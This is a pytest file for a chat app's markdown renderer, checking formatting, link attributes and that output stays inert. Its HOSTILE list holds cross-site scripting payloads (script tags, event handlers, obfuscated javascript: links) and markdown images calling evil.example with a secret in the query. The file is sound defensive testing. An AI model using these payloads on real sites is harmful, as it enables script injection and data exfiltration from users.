"""chat/markdown.py: what is rendered, and that nothing in it acts."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.markdown import ATTRIBUTES, TAGS, render, render_page, without_open_bold

LINK = 'target="_blank" rel="noopener noreferrer nofollow"'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n"),
        ("[a](https://b.c/d)", f'<p><a href="https://b.c/d" {LINK}>a</a></p>\n'),
        ("[a](mailto:b@c.d)", f'<p><a href="mailto:b@c.d" {LINK}>a</a></p>\n'),
        ("[a](/help/card_arrival/)", f'<p><a href="/help/card_arrival/" {LINK}>a</a></p>\n'),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>\n"),
        ("```nonsense\n<b>\n```", '<pre><code class="language-nonsense">&lt;b&gt;\n</code></pre>\n'),
        ("```python\nif 1: pass\n```", None),
        ("中文**粗体**。", "<p>中文<strong>粗体</strong>。</p>\n"),
    ],
)
def test_markdown_becomes_html(text: str, html: str | None):
    if html is None:
        assert '<span class="k">if</span>' in render(text)
    else:
        assert render(text) == html


def test_on_a_page_of_its_own_a_link_is_like_any_other():
    link = '<a href="/help/fees/" rel="noopener noreferrer">a</a>'
    assert render_page("[a](/help/fees/), **b**") == f"<p>{link}, <strong>b</strong></p>\n"


def test_tables_are_rendered():
    assert "<td>1</td>" in render("| a |\n|---|\n| 1 |")


class Reader(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One element."""
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def _assert_inert(html: str) -> None:
    reader = Reader()
    reader.feed(html)
    assert reader.tags <= TAGS
    for tag, name, value in reader.attributes:
        assert name in {*ATTRIBUTES.get(tag, set()), "rel"}
        if name == "href":
            assert value.startswith(("https://", "http://", "mailto:")) or ":" not in value.split("/")[0]
            assert not value.startswith(("//", "/\\", "\\"))


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>1</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//e.x)}</style>",
    "<math><mi//xlink:href='data:x,<script>1</script>'>",
    "<!--><img src=x onerror=1>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:1>)",
    "[x](vbscript:1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](http:evil)",
    "[x](https://a.b 'onmouseover=alert(1)')",
    '[x](https://a.b "\\"onmouseover=alert(1)")',
    "![x](http://evil.example/?q=secret)",
    "![x][a]\n\n[a]: http://evil.example/?q=secret",
    "[![x](http://evil.example/i.png)](http://a.b)",
    '<http://a.b/"onclick=1>',
    "<javascript:alert(1)>",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>`",
    "| <script> |\n|---|\n| <img src=x onerror=1> |",
    "[a]: javascript:alert(1)\n\n[a]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a\x00 href=javascript:1>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text: str):
    _assert_inert(render(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_at_every_split_point(text: str):
    for end in range(len(text)):
        _assert_inert(render(text[:end]))


@given(
    st.lists(st.sampled_from([*HOSTILE, "**", "`", "```\n", "\n", "[", "](", ")", "<", ">", '"', "&", " "])).map(
        "".join
    )
)
def test_any_mixture_is_inert(text: str):
    _assert_inert(render(text))


def test_no_picture_is_ever_fetched():
    assert "<img" not in render("![a](/static/a.png) ![b](http://c.d/e.png)")


def test_very_long_code_is_shown_without_colours():
    assert "<span" not in render("```python\n" + "x = 1\n" * 5_000 + "```")


@pytest.mark.parametrize(
    ("broken", "shown"),
    [
        ("Open **Cards > PIN", "Open Cards > PIN"),
        ("Open **", "Open "),
        ("Open *", "Open "),
        ("Open **Cards** and **PIN", "Open **Cards** and PIN"),
        ("Open **Cards**", "Open **Cards**"),
        ("Open **Cards**.", "Open **Cards**."),
    ],
)
def test_a_text_that_broke_off_shows_no_open_mark(broken: str, shown: str):
    assert without_open_bold(broken) == shown
